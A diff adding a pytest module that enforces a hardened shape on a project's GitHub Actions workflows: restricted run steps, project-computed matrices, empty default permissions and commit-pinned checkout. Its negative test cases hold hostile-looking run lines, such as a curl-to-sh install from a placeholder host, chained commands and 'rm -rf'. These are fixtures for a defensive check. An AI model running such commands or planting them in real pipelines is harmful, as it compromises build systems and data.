@@ -1,0 +1,176 @@
+"""The workflows only call the project: every `run:` step is a setup step or an `invoke`/`nox` command, and every
+matrix is the one `invoke matrix` computes (never a list of flavours typed into a workflow)."""
+
+import re
+from pathlib import Path
+from string import Template
+
+import pytest
+import yaml
+
+from ac_release.images.ci_matrix import OUTPUT_NAME, ci_matrix
+from ac_release.sessions import session_name
+from tests.helpers import REPO
+
+WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.y*ml"))
+CHECKOUT = re.compile(r"actions/checkout@[0-9a-f]{40}")
+
+_VAR = r'"\$[A-Z][A-Z0-9_]*"'
+SETUP_STEPS = [
+    re.compile(r"\.ci/bootstrap"),
+    re.compile(rf"echo {_VAR} \| docker login [a-z0-9.-]+(:[0-9]+)? --username {_VAR} --password-stdin"),
+]
+PROJECT_COMMAND = re.compile(r"\.venv/bin/(invoke|nox) .+")
+SHELL_CONTROL = re.compile(r"[;&|`<>]|\$\(")  # a second command, a pipe, a redirection or a substitution
+MATRIX_FROM_JOB = re.compile(r"\$\{\{ fromJSON\(needs\.(?P<job>[\w-]+)\.outputs\.(?P<output>[\w-]+)\) \}\}")
+STEP_OUTPUT = re.compile(r"\$\{\{ steps\.(?P<step>[\w-]+)\.outputs\.(?P<output>[\w-]+) \}\}")
+MATRIX_COMMAND = re.compile(r"\.venv/bin/invoke matrix \S+ --github-output")
+
+
+def load(path: Path) -> dict:
+    return yaml.safe_load(path.read_text())
+
+
+def run_step_problems(workflow: dict) -> list[str]:
+    problems = []
+    for job_id, job in workflow["jobs"].items():
+        for step in job.get("steps", []):
+            if "uses" in step and not CHECKOUT.fullmatch(step["uses"]):
+                problems.append(f"{job_id}: {step['uses']!r} is not actions/checkout pinned by commit")
+            for line in filter(None, map(str.strip, step.get("run", "").splitlines())):
+                setup = any(pattern.fullmatch(line) for pattern in SETUP_STEPS)
+                project = PROJECT_COMMAND.fullmatch(line) and not SHELL_CONTROL.search(line)
+                if not (setup or project):
+                    problems.append(f"{job_id}: {line!r} is neither a setup step nor a .venv/bin invoke/nox command")
+    return problems
+
+
+def matrix_problems(workflow: dict) -> list[str]:
+    problems = []
+    jobs = workflow["jobs"]
+    for job_id, job in jobs.items():
+        if "matrix" not in job.get("strategy", {}):
+            continue
+        match = MATRIX_FROM_JOB.fullmatch(str(job["strategy"]["matrix"]))
+        if not match:
+            problems.append(f"{job_id}: the matrix is not fromJSON of a job output: {job['strategy']['matrix']!r}")
+            continue
+        planner, output = match["job"], match["output"]
+        needs = job.get("needs", [])
+        if planner not in ([needs] if isinstance(needs, str) else needs) or planner not in jobs:
+            problems.append(f"{job_id}: the matrix comes from {planner!r}, which is not among its needs")
+            continue
+        step_output = STEP_OUTPUT.fullmatch(str(jobs[planner].get("outputs", {}).get(output, "")))
+        steps = [s for s in jobs[planner]["steps"] if step_output and s.get("id") == step_output["step"]]
+        if not (
+            output == OUTPUT_NAME == step_output["output"]
+            and len(steps) == 1
+            and MATRIX_COMMAND.fullmatch(steps[0]["run"])
+        ):
+            problems.append(f"{job_id}: {planner}.outputs.{output} is not the `invoke matrix` step's output")
+    return problems
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_every_run_step_is_a_setup_step_or_a_project_command(path):
+    assert run_step_problems(load(path)) == []
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_every_matrix_is_computed_by_invoke_matrix(path):
+    assert matrix_problems(load(path)) == []
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_no_permission_by_default_and_each_job_names_its_own(path):
+    workflow = load(path)
+    assert workflow["permissions"] == {}
+    assert [job_id for job_id, job in workflow["jobs"].items() if "permissions" not in job] == []
+
+
+def test_the_ci_workflow_is_lint_unit_integration_then_smoke_per_flavour():
+    workflow = load(REPO / ".github" / "workflows" / "ci.yml")
+    jobs = workflow["jobs"]
+    assert set(jobs) == {"lint", "unit", "integration", "plan", "smoke"}
+    assert [s["run"] for s in jobs["lint"]["steps"] if "run" in s] == [".ci/bootstrap", ".venv/bin/nox -s lint"]
+    assert [s["run"] for s in jobs["unit"]["steps"] if "run" in s] == [".ci/bootstrap", ".venv/bin/nox -s unit"]
+    assert jobs["integration"]["steps"][-1]["run"] == ".venv/bin/nox -s integration"
+    assert set(jobs["smoke"]["needs"]) >= {"plan", "lint", "unit"}
+    # The plan selects what a plain `nox` run smoke-tests, and each smoke job runs that very nox session.
+    assert jobs["plan"]["steps"][-1]["run"] == ".venv/bin/invoke matrix newest --github-output"
+    smoke = jobs["smoke"]["steps"][-1]
+    for entry in ci_matrix(REPO, "newest")["include"]:
+        assert smoke["env"] == {"VERSION": "${{ matrix.version }}", "FLAVOUR": "${{ matrix.flavour }}"}
+        command = Template(smoke["run"]).substitute(VERSION=entry["version"], FLAVOUR=entry["flavour"])
+        assert command == f'.venv/bin/nox -s "{session_name(entry["version"], entry["flavour"])}"'
+    # Superseded pull-request runs are cancelled, pushes to main are not.
+    assert workflow["concurrency"]["cancel-in-progress"] == "${{ github.event_name == 'pull_request' }}"
+    assert "github.event.pull_request.number" in workflow["concurrency"]["group"]
+    for job in jobs.values():
+        (checkout,) = [s for s in job["steps"] if "uses" in s]
+        assert checkout["with"]["persist-credentials"] is False
+
+
+PLANNED = {
+    "jobs": {
+        "plan": {
+            "outputs": {"matrix": "${{ steps.m.outputs.matrix }}"},
+            "steps": [{"run": ".ci/bootstrap"}, {"id": "m", "run": ".venv/bin/invoke matrix newest --github-output"}],
+        },
+        "smoke": {"needs": ["plan"], "strategy": {"matrix": "${{ fromJSON(needs.plan.outputs.matrix) }}"}},
+    }
+}
+
+
+def _with(smoke_strategy=None, plan_run=None, needs=None) -> dict:
+    workflow = yaml.safe_load(yaml.safe_dump(PLANNED))
+    if smoke_strategy is not None:
+        workflow["jobs"]["smoke"]["strategy"]["matrix"] = smoke_strategy
+    if plan_run is not None:
+        workflow["jobs"]["plan"]["steps"][1]["run"] = plan_run
+    if needs is not None:
+        workflow["jobs"]["smoke"]["needs"] = needs
+    return workflow
+
+
+def test_the_matrix_check_accepts_the_planned_shape():
+    assert matrix_problems(PLANNED) == []
+
+
+@pytest.mark.parametrize(
+    "workflow",
+    [
+        _with(smoke_strategy={"flavour": ["bullseye", "bookworm"]}),
+        _with(smoke_strategy={"include": [{"version": "2.2.4-1", "flavour": "bullseye"}]}),
+        _with(smoke_strategy='${{ fromJSON(\'{"include": [{"flavour": "bullseye"}]}\') }}'),
+        _with(plan_run='echo \'matrix={"include": [{"flavour": "bullseye"}]}\' >> "$GITHUB_OUTPUT"'),
+        _with(needs=[]),
+    ],
+    ids=["literal-list", "literal-include", "literal-json", "echoed-matrix", "not-needed"],
+)
+def test_the_matrix_check_refuses_a_matrix_not_computed_by_the_project(workflow):
+    assert len(matrix_problems(workflow)) == 1
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "pip install -e .",
+        "python -m pytest",
+        ".venv/bin/invoke release 2.2.4-1; curl https://example.invalid",
+        ".venv/bin/nox -s lint && rm -rf dist",
+        '.venv/bin/invoke matrix newest > "$GITHUB_OUTPUT"',
+        ".venv/bin/invoke release $(cat version)",
+        "invoke release 2.2.4-1",
+        'echo "$TOKEN" | docker login quay.io --username "$USER" --password "$TOKEN"',
+        ".ci/bootstrap\ncurl -sSL https://example.invalid/install.sh | sh",
+    ],
+)
+def test_the_run_step_check_refuses_anything_else(run):
+    workflow = {"jobs": {"job": {"steps": [{"run": run}]}}}
+    assert len(run_step_problems(workflow)) == 1
+
+
+def test_the_run_step_check_refuses_other_actions():
+    workflow = {"jobs": {"job": {"steps": [{"uses": "actions/checkout@v4"}, {"uses": "actions/cache@" + "0" * 40}]}}}
+    assert len(run_step_problems(workflow)) == 2
